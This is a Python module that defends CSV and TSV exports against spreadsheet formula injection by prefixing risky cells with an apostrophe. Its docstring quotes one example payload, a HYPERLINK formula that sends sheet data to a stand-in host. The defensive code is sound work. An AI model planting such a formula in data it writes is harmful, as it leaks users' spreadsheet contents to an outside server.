"""Cells that a spreadsheet would run as formulas, made inert.

A text from the data (a name, a note, a citation) that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a
formula to Excel, LibreOffice and Google Sheets when a CSV is opened: `=HYPERLINK("http://evil.example/?"&A1)`
sends the sheet's data away, `=WEBSERVICE(...)` fetches. The CSV and TSV outputs meant for spreadsheets (`kg export
--format csv|acled`, `kg query --format csv|tsv`, `kg find --format csv|tsv`) put a `'` before such a cell (the OWASP
rule), except a plain number (`-17.5` stays a number); `--raw` writes every value exactly, for tools that are not
spreadsheets. The workbook (`--format xlsx`) needs no prefix: its cells are typed, and a text is written as a text
cell, never a formula (kg.outputs.formats.xlsx).
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def inert(text: str) -> str:
    """`text` as a spreadsheet cell that cannot run: a leading `'` where it would start a formula."""
    if text[:1] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def inert_row(values, raw: bool = False) -> list:
    """A row of cells (texts, numbers, None), each made inert unless `raw`."""
    if raw:
        return list(values)
    return [inert(v) if isinstance(v, str) else v for v in values]
